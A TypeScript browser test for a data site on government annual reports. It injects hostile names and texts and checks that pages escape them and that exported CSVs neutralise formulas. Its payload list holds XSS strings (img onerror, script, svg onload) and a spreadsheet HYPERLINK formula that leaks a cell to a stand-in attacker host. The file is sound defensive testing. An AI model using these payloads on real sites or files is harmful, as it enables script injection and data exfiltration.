/**
 * Hostile data: a small export, written with the project's own writer, whose body names, narratives
 * and a finding carry HTML, script and spreadsheet formulas. The site is built on it (a variant via
 * NIANBAO_DATA_DIR) and every view is opened: no dialog opens, no injected script runs (the
 * payloads set window.__xss), a chart tooltip shows the name as text, and the CSV the site offers
 * (and the export writer's own CSV) keeps formulas from running.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { generateDemo } from '../../src/lib/demo/index';
import { writeExports } from '../../src/lib/export/write';
import { launchBrowser, openContext, SCREENSHOT_DIR, startServer } from './harness';
import { buildRoutes, buildVariant, waitForSettled } from './builds';

/** Each payload, if it ever ran, would set window.__xss (or open a dialog). */
const PAYLOADS = [
  '<img src=x onerror="window.__xss=1;alert(1)">市局',
  '<script>window.__xss=1</script>县局',
  '"><svg onload="window.__xss=1">区局',
  '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
];

let dataDir: string;
let build: string;
let server: Awaited<ReturnType<typeof startServer>>;
let browser: Browser;
let csvFromWriter: string;

beforeAll(async () => {
  dataDir = mkdtempSync(join(tmpdir(), 'nianbao-hostile-'));
  const bundle = generateDemo(7, { provenance: false });
  const latest = Math.max(...bundle.reports.map((r) => r.year));
  // Four bodies of the latest year, renamed in every year and made the largest, so they lead the
  // charts (and their tooltips) of every view.
  const ids = [
    ...new Set(bundle.reports.filter((r) => r.year === latest && r.scope === 'agency').map((r) => r.agency_id))
  ].slice(0, PAYLOADS.length);
  const payloadOf = new Map(ids.map((id, i) => [id, PAYLOADS[i]]));
  for (const report of bundle.reports) {
    const payload = payloadOf.get(report.agency_id);
    if (payload === undefined) continue;
    report.agency = payload;
    report.numbers.permits = 900_000 - ids.indexOf(report.agency_id); // PAYLOADS[0] on top
    report.numbers.penalties = 800_000;
  }
  const hostile = new Set(bundle.reports.filter((r) => payloadOf.has(r.agency_id)).map((r) => r.report_id));
  for (const section of bundle.sections) {
    if (hostile.has(section.report_id)) section.text = `${PAYLOADS[section.section % PAYLOADS.length]} 正文`;
  }
  if (bundle.checks[0]) bundle.checks[0].message = `${PAYLOADS[0]} 数值不一致。`;
  await writeExports(join(dataDir, 'demo'), bundle);
  csvFromWriter = readFileSync(join(dataDir, 'demo', 'reports.csv'), 'utf8');

  build = await buildVariant(dataDir);
  server = await startServer(build);
  browser = await launchBrowser();
}, 400_000);

afterAll(async () => {
  await browser?.close();
  await server?.close();
  if (dataDir) rmSync(dataDir, { recursive: true, force: true });
  if (build) rmSync(dirname(build), { recursive: true, force: true });
});

interface Visit {
  page: Page;
  dialogs: string[];
  close: () => Promise<void>;
  pageErrors: string[];
}

async function visit(path: string): Promise<Visit> {
  const { page, context, problems } = await openContext(browser, server.origin);
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.addInitScript('window.__xss = 0;');
  await page.goto(`${server.origin}${path}`);
  expect({ path, settled: await waitForSettled(page, 90_000) }).toEqual({ path, settled: true });
  return { page, dialogs, pageErrors: problems.pageErrors, close: () => context.close() };
}

describe('hostile names and texts', () => {
  it('the writer’s CSV keeps the formula from running', () => {
    expect(csvFromWriter).toContain(`'=HYPERLINK(`);
    expect(csvFromWriter).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('no view opens a dialog or runs an injected script', async () => {
    const routes = buildRoutes(build);
    expect(routes).toEqual(expect.arrayContaining(['/', '/permits/', '/penalties/', '/fees/']));
    for (const path of routes) {
      const v = await visit(path);
      try {
        const xss = await v.page.evaluate(() => (window as unknown as { __xss: unknown }).__xss);
        expect({ path, xss, dialogs: v.dialogs }).toEqual({ path, xss: 0, dialogs: [] });
        // Nothing the payloads would create exists as an element (text only).
        const injected = await v.page.$$eval('main img[src="x"], main svg[onload], main script', (els) => els.length);
        expect({ path, injected }).toEqual({ path, injected: 0 });
        expect(v.pageErrors).toEqual([]);
      } finally {
        await v.close();
      }
    }
  }, 600_000);

  it('shows the names as text in the table and escaped in the chart tooltip', async () => {
    const v = await visit('/permits/');
    try {
      const { page } = v;
      const text = await page.textContent('table[data-table="compare"]');
      expect(text).toContain(PAYLOADS[0]);
      expect(text).toContain(PAYLOADS[1]);
      // The top bar is a hostile name: hover its row and read the tooltip.
      const chart = page.locator('[data-chart="compare"] .chart-canvas');
      await chart.evaluate((el) => el.scrollIntoView({ block: 'start' }));
      const box = await chart.boundingBox();
      if (!box) throw new Error('no compare chart');
      await page.mouse.move(box.x + box.width * 0.6, box.y + 60, { steps: 4 });
      await page.mouse.move(box.x + box.width * 0.6, box.y + 20, { steps: 4 });
      // ECharts puts its tooltip beside the chart's own drawing layer (the one holding the <svg>).
      const tooltip = page
        .locator('[data-chart="compare"] .chart-canvas > div:not(:has(svg))')
        .filter({ hasText: /onerror/ });
      await tooltip.waitFor({ state: 'visible', timeout: 10_000 });
      const html = await tooltip.innerHTML();
      expect(html).toContain('&lt;img src=x onerror=');
      expect(await tooltip.locator('img, svg, script').count()).toBe(0);
      await page.screenshot({ path: join(SCREENSHOT_DIR, 'safety-tooltip-desktop.png') });
      expect(await page.evaluate(() => (window as unknown as { __xss: unknown }).__xss)).toBe(0);
      expect(v.dialogs).toEqual([]);
    } finally {
      await v.close();
    }
  });

  it('the CSV the data view downloads is formula-safe', async () => {
    if (!buildRoutes(build).includes('/data/')) return expect.fail('the build has no /data/ view to download from');
    const v = await visit('/data/');
    try {
      const button = v.page.locator('[data-download="csv"]');
      await expect.poll(() => button.isEnabled(), { timeout: 90_000 }).toBe(true);
      const [download] = await Promise.all([v.page.waitForEvent('download'), button.click()]);
      const csv = readFileSync(await download.path(), 'utf8');
      expect(csv).toContain(`'=HYPERLINK(`);
      expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
      expect(csv).toContain(PAYLOADS[0].replace(/"/g, '""'));
    } finally {
      await v.close();
    }
  }, 200_000);
});
